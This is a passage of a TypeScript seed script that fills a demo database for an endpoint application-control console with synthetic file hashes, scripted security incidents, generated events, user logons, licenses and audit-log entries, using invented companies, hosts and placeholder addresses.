  allowedSeverity: Severity;
  userKind: UserKind;
}

interface Catalogue {
  hashes: HashRow[];
  variants: VariantRow[];
  byKey: Map<string, { hash: HashRow; variant: VariantRow }>;
}

function buildCatalogue(ctx: SeedContext, at: (iso: string) => Date): Catalogue {
  const rng = ctx.random('inspection-hashes');
  const now = ctx.now.getTime();
  const target = ctx.scale === 'large' ? 12_000 : 3_000;
  const hashes: HashRow[] = [];
  const variants: VariantRow[] = [];
  const byKey = new Map<string, { hash: HashRow; variant: VariantRow }>();
  const used = new Set<string>();

  const addHash = (h: Omit<HashRow, 'id'>): HashRow => {
    const row = { ...h, id: hashes.length + 1 };
    hashes.push(row);
    used.add(row.sha256);
    return row;
  };
  const userKindOf = (launch: Launch, path: string): UserKind =>
    launch === 'driver' || launch === 'service' ? 2 : launch === 'task' && !path.includes('{user}') ? 1 : 0;
  const addVariant = (
    hash: HashRow,
    p: {
      event: EventType;
      launch: Launch;
      policy: string | null;
      path: string;
      weight: number;
      ja: boolean;
      tree?: boolean;
      exact?: boolean;
    },
    sev: { blocked: Severity; allowed: Severity },
  ): VariantRow => {
    const tree =
      p.tree === false || rng.chance(0.18)
        ? null
        : buildTree(rng, p.launch, {
            name: hash.fileName,
            path: p.path,
            sha256: hash.sha256,
            publisher: hash.publisher,
          });
    const v: VariantRow = {
      id: variants.length + 1,
      hashId: hash.id,
      cls: hash.cls,
      event: p.event,
      fileName: hash.fileName,
      filePath: p.path,
      policy: p.policy === null || p.exact ? p.policy : rng.chance(0.08) ? null : p.policy,
      tree,
      weight: p.weight,
      ja: p.ja,
      severity: sev.blocked,
      allowedSeverity: sev.allowed,
      userKind: userKindOf(p.launch, p.path),
    };
    variants.push(v);
    return v;
  };

  // The named files, with the values of the examples.
  for (const n of NAMED) {
    const product = n.product ? PRODUCTS.find((p) => p.name === n.product) : undefined;
    const hash = addHash({
      key: n.key,
      sha256: n.sha256,
      md5: n.md5 ?? md5Of(n.sha256),
      sha1: n.sha1 ?? sha1Of(n.sha256),
      fileName: n.fileName,
      hashType: hashTypeOf(n.fileName, n.event),
      cls: n.cls,
      severity: n.severity,
      detections: n.detections,
      engines: n.engines,
      publisher: n.publisher,
      firstSeen: at(n.firstSeen),
    });
    const variant = addVariant(
      hash,
      {
        event: n.event,
        launch: n.launch,
        policy: n.policy,
        path: n.path,
        weight: n.incident ? 0 : (product?.weight ?? 3) * 1.2,
        ja: product?.ja ?? false,
        tree: n.tree,
        exact: true,
      },
      { blocked: n.severity === 'Info' ? 'Low' : n.severity, allowed: 'Info' },
    );
    byKey.set(n.key, { hash, variant });
  }
  // The system binaries of the trees.
  for (const [key, event, weight] of SYSTEM_HASHES) {
    const p = SYS[key]!;
    if (used.has(p.sha256)) continue;
    const hash = addHash({
      key,
      sha256: p.sha256,
      md5: md5Of(p.sha256),
      sha1: sha1Of(p.sha256),
      fileName: p.name,
      hashType: 'Executable',
      cls: 'harmless',
      severity: 'Info',
      detections: 0,
      engines: 72,
      publisher: p.publisher,
      firstSeen: new Date(now - rng.int(400, 1100) * DAY),
    });
    addVariant(
      hash,
      {
        event,
        launch: 'explorer',
        policy: 'Trusted Publishers',
        path: p.path,
        weight,
        ja: false,
        tree: false,
      },
      severityOf(rng, 'harmless', event),
    );
  }

  // Versions of the products until the catalogue has its size.
  const byClass = new Map<HashClass, Product[]>();
  for (const p of PRODUCTS) byClass.set(p.cls, [...(byClass.get(p.cls) ?? []), p]);
  const versions = new Map<string, number>();
  while (hashes.length < target) {
    const cls = rng.weighted([
      ['harmless', 70],
      ['notFound', 17],
      ['suspicious', 7],
      ['malicious', 6],
    ] as const);
    const pool = byClass.get(cls)!;
    const product = rng.weighted(pool.map((p) => [p, Math.sqrt(p.weight + 1)] as const));
    const version = (versions.get(product.name) ?? 0) + 1;
    versions.set(product.name, version);
    const fileName = product.name.replace('#', String(rng.int(1000, 99999)));
    let sha256 = rng.hex(64);
    while (used.has(sha256)) sha256 = rng.hex(64);
    const { detections, engines } = detectionsOf(rng, cls);
    const maxAge = { harmless: 1100, notFound: 800, suspicious: 300, malicious: 75 }[cls];
    const sev = severityOf(rng, cls, product.event);
    const hash = addHash({
      sha256,
      md5: md5Of(sha256),
      sha1: sha1Of(sha256),
      fileName,
      hashType: hashTypeOf(fileName, product.event),
      cls,
      severity: NOT_BLOCKABLE.has(product.event) ? sev.allowed : sev.blocked,
      detections,
      engines,
      publisher: product.publisher,
      firstSeen: new Date(now - rng.int(1, maxAge) * DAY - rng.int(0, 86_399) * 1000),
    });
    addVariant(
      hash,
      {
        event: product.event,
        launch: product.launch,
        policy: product.policy,
        path: `${product.dir}\\${fileName}`,
        weight: product.weight * Math.pow(0.8, version - 1) * (cls === 'malicious' ? 0.3 : 1),
        ja: product.ja ?? false,
      },
      sev,
    );
  }
  return { hashes, variants, byKey };
}

// ---------------------------------------------------------------- events

type EventRow = [
  id: number,
  reportedAt: Date,
  companyId: number,
  siteId: number,
  groupId: number,
  computerId: number,
  hashId: number,
  variantId: number,
  eventType: EventType,
  action: Action,
  severity: Severity,
  hashClass: HashClass,
  userName: string | null,
];

interface Incident {
  hash: string;
  /** Named computers and how many events each, then how many other computers of the company. */
  computers: Array<[computerId: number, count: number]>;
  others?: { company: number; computers: number; each: number; mode?: 'notDiscovery' };
  from: string;
  to: string;
  userKind?: UserKind;
  event?: EventType;
}

/** Incidents behind the examples: the same files on the same computers, around the example times. */
const INCIDENTS: Incident[] = [
  {
    hash: 'invoice',
    computers: [
      [40001, 60],
      [40002, 38],
      [40013, 29],
    ],
    others: { company: 1001, computers: 1, each: 14, mode: 'notDiscovery' },
    from: '2026-11-02T08:14:09Z',
    to: '2026-11-19T07:58:31Z',
  },
  {
    hash: 'rclone',
    computers: [[40003, 190]],
    others: { company: 1001, computers: 2, each: 27, mode: 'notDiscovery' },
    from: '2026-10-27T21:48:02Z',
    to: '2026-11-18T21:59:50Z',
    userKind: 1,
  },
  {
    hash: 'zoom',
    computers: [
      [40014, 40],
      [40004, 30],
    ],
    others: { company: 1001, computers: 12, each: 8 },
    from: '2026-11-02T13:58:07Z',
    to: '2026-11-19T06:40:12Z',
  },
  {
    hash: 'updateHelper',
    computers: [[40002, 60]],
    others: { company: 1001, computers: 1, each: 26, mode: 'notDiscovery' },
    from: '2026-11-12T10:31:44Z',
    to: '2026-11-18T14:58:31Z',
  },
  {
    hash: 'anydesk',
    computers: [
      [40004, 8],
      [40014, 9],
      [40002, 4],
    ],
    others: { company: 1001, computers: 8, each: 5 },
    from: '2026-11-02T07:41:27Z',
    to: '2026-11-18T13:05:44Z',
  },
  {
    hash: 'qbw',
    computers: [
      [40013, 10],
      [40001, 8],
      [40002, 6],
      [40003, 5],
    ],
    others: { company: 1001, computers: 4, each: 2 },
    from: '2026-11-10T08:31:50Z',
    to: '2026-11-17T13:55:41Z',
  },
  {
    hash: 'python',
    computers: [
      [40005, 13],
      [40004, 8],
      [40014, 4],
    ],
    from: '2026-11-05T15:40:22Z',
    to: '2026-11-17T09:31:02Z',
  },
  {
    hash: 'chromeUpdater',
    computers: [
      [40001, 14],
      [40013, 6],
    ],
    from: '2026-11-16T11:58:03Z',
    to: '2026-11-16T12:29:40Z',
  },
  {
    hash: 'portable',
    computers: [[40006, 6]],
    others: { company: 1001, computers: 3, each: 2 },
    from: '2026-11-04T09:12:37Z',
    to: '2026-11-19T07:10:55Z',
  },
  { hash: 'syncShare', computers: [[40004, 8]], from: '2026-11-14T10:03:41Z', to: '2026-11-14T10:41:08Z' },
  { hash: 'sc', computers: [[40006, 2]], from: '2026-11-11T19:44:58Z', to: '2026-11-11T19:45:05Z' },
  {
    hash: 'invoiceNov',
    computers: [],
    others: { company: 1001, computers: 1, each: 3, mode: 'notDiscovery' },
    from: '2026-11-13T16:05:12Z',
    to: '2026-11-13T16:05:40Z',
  },
  {
    hash: 'rtcore',
    computers: [],
    others: { company: 1001, computers: 1, each: 2, mode: 'notDiscovery' },
    from: '2026-11-09T02:14:27Z',
    to: '2026-11-09T02:14:31Z',
    userKind: 2,
  },
  {
    hash: 'updateOffice',
    computers: [],
    others: { company: 1001, computers: 2, each: 3, mode: 'notDiscovery' },
    from: '2026-11-06T18:44:09Z',
    to: '2026-11-07T08:02:16Z',
  },
  {
    hash: 'mimikatz',
    computers: [],
    others: { company: 1001, computers: 1, each: 4, mode: 'notDiscovery' },
    from: '2026-10-30T23:51:38Z',
    to: '2026-10-30T23:52:10Z',
  },
  {
    hash: 'svchosts',
    computers: [],
    others: { company: 1001, computers: 3, each: 6, mode: 'notDiscovery' },
    from: '2026-10-21T04:12:55Z',
    to: '2026-10-29T06:30:19Z',
  },
  {
    hash: 'winlogonHelper',
    computers: [],
    others: { company: 1001, computers: 1, each: 5, mode: 'notDiscovery' },
    from: '2026-10-21T04:13:02Z',
    to: '2026-10-21T04:20:44Z',
  },
  {
    hash: 'kintai',
    computers: [[40007, 172]],
    others: { company: 1003, computers: 2, each: 75 },
    from: '2026-08-24T00:30:00Z',
    to: '2026-11-19T08:30:12Z',
  },
  {
    hash: 'kintai',
    event: 'ExecutionBlocked',
    computers: [[40008, 14]],
    from: '2026-11-03T01:10:00Z',
    to: '2026-11-18T02:47:51Z',
  },
];

function scriptedEvents(
  ctx: SeedContext,
  catalogue: Catalogue,
  computers: ComputerRow[],
  byId: Map<number, ComputerRow>,
  at: (iso: string) => Date,
): EventRow[] {
  const rng = ctx.random('inspection-incidents');
  const rows: EventRow[] = [];
  const trees = exampleTrees();
  const userOf = (c: ComputerRow, kind: UserKind) =>
    kind === 2
      ? null
      : kind === 1
        ? `${c.domain ?? 'CORP'}\\svc-backup`
        : `${c.domain ?? 'CORP'}\\${c.logged_on_user ?? 'user'}`;
  const actionOf = (c: ComputerRow, event: EventType): Action =>
    NOT_BLOCKABLE.has(event) ? 'allowed' : c.protection_mode === 'Discovery' ? 'audited' : 'blocked';
  const min = ctx.now.getTime() - 90 * DAY;

  // Example events first: their own variant when the example's tree or path differs.
  const extraVariants: VariantRow[] = [];
  for (const e of EXAMPLE_EVENTS) {
    const c = byId.get(e.computerId);
    const named = catalogue.byKey.get(e.hash);
    if (!c || !named) continue;
    let variant = named.variant;
    const tree = trees[e.id] ?? null;
    if ((e.tree === 'none') !== (variant.tree === null) || tree !== null || e.policy !== variant.policy) {
      variant = {
        ...variant,
        id: catalogue.variants.length + extraVariants.length + 1,
        tree: e.tree === 'none' ? null : tree,
        policy: e.policy,
        event: e.type,
        weight: 0,
      };
      extraVariants.push(variant);
    }
    rows.push([
      e.id,
      at(e.at),
      c.company_id,
      c.site_id,
      c.group_id,
      c.id,
      named.hash.id,
      variant.id,
      e.type,
      e.action,
      e.severity,
      named.hash.cls,
      e.user,
    ]);
  }
  catalogue.variants.push(...extraVariants);

  // Incidents around them.
  let id = 9_000_001;
  const companyComputers = new Map<number, ComputerRow[]>();
  for (const c of computers) {
    if (c.id < 40100) continue; // the named ones take part by name only
    companyComputers.set(c.company_id, [...(companyComputers.get(c.company_id) ?? []), c]);
  }
  for (const inc of INCIDENTS) {
    const named = catalogue.byKey.get(inc.hash)!;
    const event = inc.event ?? named.variant.event;
    const variant =
      event === named.variant.event
        ? named.variant
        : (() => {
            const v: VariantRow = { ...named.variant, id: catalogue.variants.length + 1, event, weight: 0 };
            catalogue.variants.push(v);
            return v;
          })();
    const plan: Array<[ComputerRow, number]> = [];
    for (const [cid, count] of inc.computers) {
      const c = byId.get(cid);
      if (c) plan.push([c, count]);
    }
    if (inc.others) {
      const pool = (companyComputers.get(inc.others.company) ?? []).filter(
        (c) => inc.others!.mode !== 'notDiscovery' || c.protection_mode !== 'Discovery',
      );
      const start = pool.length > 0 ? rng.int(0, pool.length - 1) : 0;
      for (let k = 0; k < Math.min(inc.others.computers, pool.length); k++) {
        plan.push([pool[(start + k * 7) % pool.length]!, Math.max(1, inc.others.each + rng.int(-1, 1))]);
      }
    }
    const from = Math.max(at(inc.from).getTime(), min);
    const to = at(inc.to).getTime();
    plan.forEach(([c, count], index) => {
      for (let k = 0; k < count; k++) {
        // The first computer of an incident holds its last event (the example's lastSeen).
        const t =
          index === 0 && k === count - 1 ? to : from + Math.floor(rng.next() * Math.max(1, to - from));
        rows.push([
          id++,
          new Date(t),
          c.company_id,
          c.site_id,
          c.group_id,
          c.id,
          named.hash.id,
          variant.id,
          event,
          actionOf(c, event),
          NOT_BLOCKABLE.has(event) ? variant.allowedSeverity : variant.severity,
          named.hash.cls,
          userOf(c, inc.userKind ?? variant.userKind),
        ]);
      }
    });
  }
  return rows.filter((r) => r[1].getTime() <= ctx.now.getTime());
}

/** The bulk of the events: generated in SQL from the catalogue, ids 1..count in time order. */
async function poolEvents(
  db: Database,
  ctx: SeedContext,
  catalogue: Catalogue,
  count: number,
): Promise<void> {
  if (count === 0) return;

  // The pool: every variant with a weight, most popular first; Japanese software apart.
  const pool = catalogue.variants.filter((v) => v.weight > 0);
  const global = pool.filter((v) => !v.ja).sort((a, b) => b.weight - a.weight || a.id - b.id);
  const japanese = pool.filter((v) => v.ja).sort((a, b) => b.weight - a.weight || a.id - b.id);
  const ordered = [...global, ...japanese];
  await db.exec(
    `drop table if exists _seed_variants; drop table if exists _seed_computers; drop table if exists _seed_hours;
     create table _seed_variants (idx int primary key, id int, hash_id int, event_type text, hash_class text, blockable boolean,
       sev text, sev_allowed text, user_kind int);
     create table _seed_hours (first_id bigint, n int, start timestamptz);`,
  );
  await insertRows(
    db,
    '_seed_variants',
    [
      ['idx', 'int'],
      ['id', 'int'],
      ['hash_id', 'int'],
      ['event_type', 'text'],
      ['hash_class', 'text'],
      ['blockable', 'boolean'],
      ['sev', 'text'],
      ['sev_allowed', 'text'],
      ['user_kind', 'int'],
    ],
    ordered.map((v, idx) => [
      idx,
      v.id,
      v.hashId,
      v.event,
      v.cls,
      !NOT_BLOCKABLE.has(v.event),
      v.severity,
      v.allowedSeverity,
      v.userKind,
    ]),
  );

  // Events per hour over the last 90 days: busy on weekdays and office hours (US and Japan),
  // slowly growing.
  const hours = 90 * 24;
  const start = ctx.now.getTime() - hours * HOUR;
  const weights: number[] = [];
  for (let k = 0; k < hours; k++) {
    const t = new Date(start + k * HOUR);
    const dow = t.getUTCDay();
    const h = t.getUTCHours();
    const office = h >= 13 && h <= 22 ? 1 : h <= 9 ? 0.8 : 0.35;
    const weekend = dow === 0 || dow === 6 ? 0.3 : 1;
    weights.push(office * weekend * (0.85 + (0.3 * k) / hours));
  }
  const total = weights.reduce((a, b) => a + b, 0);
  const hourRows: unknown[][] = [];
  let cumulative = 0;
  let assigned = 0;
  for (let k = 0; k < hours; k++) {
    cumulative += weights[k]!;
    const upTo = Math.round((cumulative / total) * count);
    if (upTo > assigned) hourRows.push([assigned + 1, upTo - assigned, new Date(start + k * HOUR)]);
    assigned = upTo;
  }
  await insertRows(
    db,
    '_seed_hours',
    [
      ['first_id', 'bigint'],
      ['n', 'int'],
      ['start', 'timestamptz'],
    ],
    hourRows,
  );
  await db.exec(
    `create table _seed_computers as
       select (row_number() over (order by hashint4(c.id), c.id) - 1)::int as idx, c.id, c.group_id, g.site_id, s.company_id,
         c.protection_mode = 'Discovery' as discovery, co.country = 'Japan' as ja,
         coalesce(c.domain, 'CORP') as domain, coalesce(c.domain, 'CORP') || '\\' || coalesce(c.logged_on_user, 'user') as user_name
       from computers c join groups g on g.id = c.group_id join sites s on s.id = g.site_id join companies co on co.id = s.company_id
       where not c.deleted;
     alter table _seed_computers add primary key (idx);
     analyze _seed_computers; analyze _seed_variants; analyze _seed_hours;`,
  );
  const [{ n: nc } = { n: 0 }] = await db.query<{ n: number }>(
    'select count(*)::int as n from _seed_computers',
  );
  if (nc === 0) return;
  const na = global.length;
  const nj = japanese.length;
  const japanesePick =
    nj > 0
      ? `case when c.ja and s.r3 < 35 then ${na} + (s.r2 % ${nj})::int else least(${na - 1}, floor(${na} * power(s.u2, 2.6))::int) end`
      : `least(${na - 1}, floor(${na} * power(s.u2, 2.6))::int)`;
  // One statement per slice of hours keeps the memory of a large seed flat.
  const slices = ctx.scale === 'large' ? 8 : 1;
  const perSlice = Math.ceil(count / slices);
  for (let k = 0; k < slices; k++) {
    const lo = k * perSlice + 1;
    const hi = Math.min(count, (k + 1) * perSlice);
    if (lo > hi) break;
    await db.query(
      `insert into events (id, reported_at, company_id, site_id, group_id, computer_id, hash_id, variant_id, event_type, action, severity, hash_class, user_name)
       select s.id, s.start + s.r0 * interval '1 second', c.company_id, c.site_id, c.group_id, c.id, v.hash_id, v.id, v.event_type,
         case when not v.blockable then 'allowed' when c.discovery then 'audited' else 'blocked' end,
         case when v.blockable then v.sev else v.sev_allowed end,
         v.hash_class,
         case v.user_kind when 0 then c.user_name when 1 then c.domain || '\\svc-backup' else null end
       from (
         -- One 64-bit hash of the id gives every draw of the event (12 + 20 + 20 + 7 bits).
         select x.id, x.start, (x.r & 4095) % 3600 as r0, ((x.r >> 12) & 1048575)::float8 / 1048576 as u1,
           (x.r >> 32) & 1048575 as r2, ((x.r >> 32) & 1048575)::float8 / 1048576 as u2, ((x.r >> 52) & 127) % 100 as r3
         from (select h.first_id + j as id, h.start, hashint8extended(h.first_id + j, 20261121) as r
               from _seed_hours h cross join lateral generate_series(0, h.n - 1) j
               where h.first_id between $1 and $2) x
       ) s
       join _seed_computers c on c.idx = least(${nc - 1}, floor(${nc} * power(s.u1, 1.35))::int)
       join _seed_variants v on v.idx = ${japanesePick}`,
      [lo, hi],
    );
  }
  await db.exec('drop table _seed_variants; drop table _seed_computers; drop table _seed_hours;');
}

/** The aggregates of the lists: totals per hash, the user names of events, events per hour. */
async function aggregate(db: Database): Promise<void> {
  await db.exec(
    `update file_hashes h set computer_count = s.cc, event_count = s.ec, last_seen = s.ls, first_seen = least(h.first_seen, s.fs)
       from (select hash_id, count(distinct computer_id)::int as cc, count(*)::int as ec, min(reported_at) as fs,
               max(reported_at) as ls
             from events group by hash_id) s
       where s.hash_id = h.id`,
  );
  await db.exec(
    'insert into event_user_names (user_name) select distinct user_name from events where user_name is not null',
  );
  await db.exec(
    `insert into event_hour_counts (hour, event_type, action, hash_class, n)
       select date_bin('1 hour', reported_at, timestamptz '2000-01-01T00:00:00Z'), event_type, action, hash_class, count(*)::int
       from events group by 1, 2, 3, 4`,
  );
}

// ---------------------------------------------------------------- the Computer area

async function seedComputerArea(
  ctx: SeedContext,
  computers: ComputerRow[],
  at: (iso: string) => Date,
): Promise<void> {
  const { db } = ctx;
  const rng = ctx.random('computer-area');
  const now = ctx.now.getTime();

  // Users by computers: the examples, then the computer's own user, the backup service on
  // some, an IT admin now and then.
  const named: Array<[number, string, string, number]> = [
    [40006, 'FABRIKAM\\det-kiosk03', '2026-11-19T05:58:12Z', 57],
    [40004, 'FABRIKAM\\jpark', '2026-11-19T07:41:30Z', 41],
    [40005, 'FABRIKAM\\lnguyen', '2026-11-16T08:04:51Z', 36],
    [40014, 'FABRIKAM\\hkowalski', '2026-11-19T06:32:18Z', 44],
    [40014, 'FABRIKAM\\it-admin', '2026-11-06T15:20:03Z', 3],
    [40001, 'FABRIKAM\\mwebb', '2026-11-19T07:55:02Z', 63],
    [40001, 'FABRIKAM\\svc-backup', '2026-11-19T02:00:07Z', 90],
    [40002, 'FABRIKAM\\cdubois', '2026-11-19T08:06:45Z', 58],
    [40002, 'FABRIKAM\\svc-backup', '2026-11-19T02:00:05Z', 90],
    [40003, 'FABRIKAM\\rmenon', '2026-11-18T08:12:39Z', 47],
    [40003, 'FABRIKAM\\svc-backup', '2026-11-18T02:00:11Z', 89],
    [40013, 'FABRIKAM\\acheng', '2026-11-19T07:49:26Z', 61],
  ];
  const userRows: unknown[][] = named.map(([id, user, when, count]) => [id, user, at(when), count]);
  const namedIds = new Set(named.map((n) => n[0]));
  for (const c of computers) {
    if (namedIds.has(c.id)) continue;
    const domain = c.domain ?? 'CORP';
    const seen = Math.min(now, c.last_seen?.getTime() ?? now - 30 * DAY);
    if (now - seen > 88 * DAY) continue;
    userRows.push([
      c.id,
      `${domain}\\${c.logged_on_user ?? 'user'}`,
      new Date(seen - rng.int(0, 120) * 60_000),
      rng.int(12, 70),
    ]);
    if (rng.chance(0.3)) {
      const d = new Date(seen - rng.int(0, 2) * DAY);
      userRows.push([
        c.id,
        `${domain}\\svc-backup`,
        new Date(Date.UTC(d.getUTCFullYear(), d.getUTCMonth(), d.getUTCDate(), 2, 0, rng.int(0, 59))),
        rng.int(80, 90),
      ]);
    }
    if (rng.chance(0.12))
      userRows.push([c.id, `${domain}\\it-admin`, new Date(seen - rng.int(1, 40) * DAY), rng.int(1, 6)]);
  }
  await insertRows(
    db,
    'computer_users',
    [
      ['computer_id', 'int'],
      ['user_name', 'text'],
      ['last_logon', 'timestamptz'],
      ['logon_count', 'int'],
    ],
    userRows.filter((r) => (r[2] as Date).getTime() <= now),
  );

  // One-time passwords of the examples.
  await insertRows(
    db,
    'computer_otps',
    [
      ['computer_id', 'int'],
      ['otp', 'text'],
      ['generated_at', 'timestamptz'],
      ['expires_at', 'timestamptz'],
      ['generated_by', 'int'],
    ],
    [
      [40007, 'R9TZ3W6H', at('2026-11-19T05:12:40Z'), at('2026-11-19T06:12:40Z'), 9008],
      [40003, '7KQ4M2XP', at('2026-11-19T08:31:05Z'), at('2026-11-19T09:31:05Z'), 9003],
    ],
  );

  // Agents the management server still lists in agms groups (uninstalled).
  const retired: unknown[][] = [[939877, 3001, 'FAB-FIN-WS009', '8.3.9.1102', at('2026-10-02T17:45:10Z')]];
  const agmsGroups = new Map<number, ComputerRow>();
  for (const c of computers)
    if (c.agms && c.id >= 40100 && !agmsGroups.has(c.group_id)) agmsGroups.set(c.group_id, c);
  let mainId = 800_001;
  for (const c of agmsGroups.values()) {
    if (!rng.chance(0.08)) continue;
    const prefix = c.name.replace(/\d+$/, '');
    for (let k = 0, n = rng.int(1, 2); k < n; k++) {
      retired.push([
        mainId++,
        c.group_id,
        `${prefix}${rng.int(900, 999)}`,
        '8.3.9.1102',
        new Date(now - rng.int(20, 200) * DAY),
      ]);
    }
  }
  await insertRows(
    db,
    'agsc_retired_agents',
    [
      ['main_id', 'int'],
      ['group_id', 'int'],
      ['name', 'text'],
      ['agent_version', 'text'],
      ['last_check_in', 'timestamptz'],
    ],
    retired,
  );

  // Licenses: the two of the examples, the others from the license status.
  const companies = await db.query<{ id: number; license_status: string; n: number }>(
    `select co.id, co.license_status, count(c.id)::int as n from companies co
       left join sites s on s.company_id = co.id left join groups g on g.site_id = s.id
       left join computers c on c.group_id = g.id and not c.deleted
     group by co.id order by co.id`,
  );
  const licenses = companies.map((co) => {
    if (co.id === 1001) return [co.id, 1500, at('2027-03-31T23:59:59Z')];
    if (co.id === 1003) return [co.id, 800, at('2027-06-30T23:59:59Z')];
    const seats = Math.max(50, Math.ceil((co.n * (1.1 + rng.next() * 0.5)) / 50) * 50);
    const endOfDay = (t: number) => {
      const d = new Date(t);
      return new Date(Date.UTC(d.getUTCFullYear(), d.getUTCMonth(), d.getUTCDate(), 23, 59, 59));
    };
    switch (co.license_status) {
      case 'expired':
        return [co.id, seats, endOfDay(now - rng.int(5, 120) * DAY)];
      case 'deactivated':
        return [co.id, seats, endOfDay(now - rng.int(30, 400) * DAY)];
      case 'notActivated':
        return [co.id, rng.int(1, 10) * 50, null];
      default: {
        const d = new Date(now + rng.int(60, 540) * DAY);
        return [co.id, seats, new Date(Date.UTC(d.getUTCFullYear(), d.getUTCMonth() + 1, 0, 23, 59, 59))];
      }
    }
  });
  await insertRows(
    db,
    'company_licenses',
    [
      ['company_id', 'int'],
      ['licensed_computers', 'int'],
      ['expires_on', 'timestamptz'],
    ],
    licenses,
  );
}

// ---------------------------------------------------------------- audit log

type AuditAction =
  | 'Login'
  | 'LoginFailed'
  | 'Logout'
  | 'CreateCompany'
  | 'UpdateCompany'
  | 'DeleteCompany'
  | 'CreateUser'
  | 'UpdateUser'
  | 'DeleteUser'
  | 'CreateServer'
  | 'UpdateServer'
  | 'DeleteServer'
  | 'ResolveAlert'
  | 'UpdateAlertStatus'
  | 'UpdateAlertCondition'
  | 'CreateReview'
  | 'ChangeReviewStatus'
  | 'UpdateAgentSettings'
  | 'UpdateIgnoreEvents'
  | 'UpdateSeverityEvents'
  | 'UpdateGlobalSettings'
  | 'UpdateSsoProvider'
  | 'GenerateOtp'
  | 'DeleteComputer';

/** [id, time, userId, action, entityType, entityName, details, ip, partnerId, companyId] */
const NAMED_AUDIT: Array<
  [
    number,
    string,
    number,
    AuditAction,
    string,
    string | null,
    string | null,
    string,
    number | null,
    number | null,
  ]
> = [
  [
    88231,
    '2026-11-19T09:02:11Z',
    9001,
    'Login',
    'Session',
    null,
    'Signed in with password.',
    '198.51.100.10',
    null,
    null,
  ],
  [
    88228,
    '2026-11-19T08:47:30Z',
    9008,
    'UpdateAgentSettings',
    'AgentSettings',
    '経理部',
    'デバッグログ保持時間を 0 から 24 に変更しました。',
    '2001:db8:81::24',
    102,
    1003,
  ],
  [
    88225,
    '2026-11-19T08:31:05Z',
    9003,
    'GenerateOtp',
    'Computer',
    'FAB-FIN-WS022',
    'One-time password generated (valid 1 hour).',
    '203.0.113.24',
    101,
    1001,
  ],
  [
    88222,
    '2026-11-19T07:15:48Z',
    9008,
    'Login',
    'Session',
    null,
    'Signed in with SSO (Azure).',
    '2001:db8:81::24',
    102,
    1003,
  ],
  [
    88219,
    '2026-11-18T17:40:12Z',
    9002,
    'UpdateCompany',
    'Company',
    'Tailspin Toys',
    'Contact phone changed.',
    '203.0.113.77',
    101,
    1002,
  ],
  [
    88216,
    '2026-11-18T16:40:27Z',
    9006,
    'UpdateAlertStatus',
    'Alert',
    'Malicious file blocked: update_helper.dll',
    'Unresolved -> InReview',
    '203.0.113.31',
    101,
    1001,
  ],
  [
    88213,
    '2026-11-18T10:05:56Z',
    9004,
    'UpdateServer',
    'Server',
    'PDP-CHI-01',
    'Priority changed from 2 to 1.',
    '203.0.113.24',
    101,
    1001,
  ],
  [
    88210,
    '2026-11-17T13:22:09Z',
    9009,
    'CreateUser',
    'User',
    '鈴木 一郎',
    'Role CompanyAdmin, company 大阪ロジスティクス株式会社.',
    '2001:db8:81::9',
    102,
    1004,
  ],
  [
    88207,
    '2026-11-17T09:12:44Z',
    9005,
    'LoginFailed',
    'Session',
    null,
    'Wrong password.',
    '198.51.100.62',
    101,
    1001,
  ],
  [
    88204,
    '2026-11-16T11:30:00Z',
    9003,
    'ChangeReviewStatus',
    'Review',
    'Finance Workstations – November blocks',
    'Drafted -> Applied',
    '203.0.113.24',
    101,
    1001,
  ],
  [
    88201,
    '2026-11-14T13:37:08Z',
    9003,
    'ResolveAlert',
    'Alert',
    'powershell.exe started by EXCEL.EXE',
    'InReview -> Resolved',
    '203.0.113.24',
    101,
    1001,
  ],
  [
    88198,
    '2026-11-13T15:48:19Z',
    9010,
    'UpdateGlobalSettings',
    'GlobalSettings',
    'SMTP settings',
    'E-Mail settings has been updated!',
    '198.51.100.140',
    103,
    1005,
  ],
];

const ACTIONS_BY_ROLE: Record<string, Array<[AuditAction, number]>> = {
  AGMSAdmin: [
    ['CreateCompany', 3],
    ['UpdateCompany', 5],
    ['DeleteCompany', 1],
    ['CreateUser', 3],
    ['UpdateUser', 4],
    ['UpdateGlobalSettings', 3],
    ['UpdateSsoProvider', 2],
    ['UpdateAlertCondition', 3],
    ['CreateServer', 2],
    ['UpdateServer', 3],
  ],
  PartnerAdmin: [
    ['CreateCompany', 2],
    ['UpdateCompany', 5],
    ['CreateUser', 3],
    ['UpdateUser', 4],
    ['UpdateSsoProvider', 1],
    ['CreateServer', 2],
    ['UpdateServer', 3],
    ['DeleteServer', 1],
  ],
  CompanyAdmin: [
    ['CreateUser', 2],
    ['UpdateUser', 3],
    ['UpdateAgentSettings', 4],
    ['UpdateIgnoreEvents', 3],
    ['UpdateSeverityEvents', 2],
    ['UpdateGlobalSettings', 1],
    ['ResolveAlert', 6],
    ['UpdateAlertStatus', 6],
    ['UpdateAlertCondition', 2],
    ['CreateReview', 2],
    ['ChangeReviewStatus', 3],
    ['GenerateOtp', 3],
    ['DeleteComputer', 1],
    ['UpdateServer', 1],
  ],
  SiteAdmin: [
    ['UpdateAgentSettings', 3],
    ['ResolveAlert', 5],
    ['UpdateAlertStatus', 5],
    ['UpdateAlertCondition', 1],
    ['GenerateOtp', 4],
    ['DeleteComputer', 1],
    ['UpdateServer', 1],
  ],
  GroupAdmin: [
    ['UpdateIgnoreEvents', 3],
    ['UpdateSeverityEvents', 2],
    ['CreateReview', 3],
    ['ChangeReviewStatus', 4],
    ['GenerateOtp', 3],
    ['UpdateAlertStatus', 3],
    ['UpdateAgentSettings', 2],
  ],
  SiteAudit: [],
  GroupAudit: [],
};

const ENTITY_OF: Record<AuditAction, string> = {
  Login: 'Session',
  LoginFailed: 'Session',
  Logout: 'Session',
  CreateCompany: 'Company',
  UpdateCompany: 'Company',
  DeleteCompany: 'Company',
  CreateUser: 'User',
  UpdateUser: 'User',
  DeleteUser: 'User',
  CreateServer: 'Server',
  UpdateServer: 'Server',
  DeleteServer: 'Server',
  ResolveAlert: 'Alert',
  UpdateAlertStatus: 'Alert',
  UpdateAlertCondition: 'AlertCondition',
  CreateReview: 'Review',
  ChangeReviewStatus: 'Review',
  UpdateAgentSettings: 'AgentSettings',
  UpdateIgnoreEvents: 'EventPolicy',
  UpdateSeverityEvents: 'EventPolicy',
  UpdateGlobalSettings: 'GlobalSettings',
  UpdateSsoProvider: 'SsoProvider',
  GenerateOtp: 'Computer',
  DeleteComputer: 'Computer',
};

async function seedAuditLogs(
  ctx: SeedContext,
  computers: ComputerRow[],
  at: (iso: string) => Date,
): Promise<void> {
  const { db } = ctx;
  const rng = ctx.random('inspection-audit');
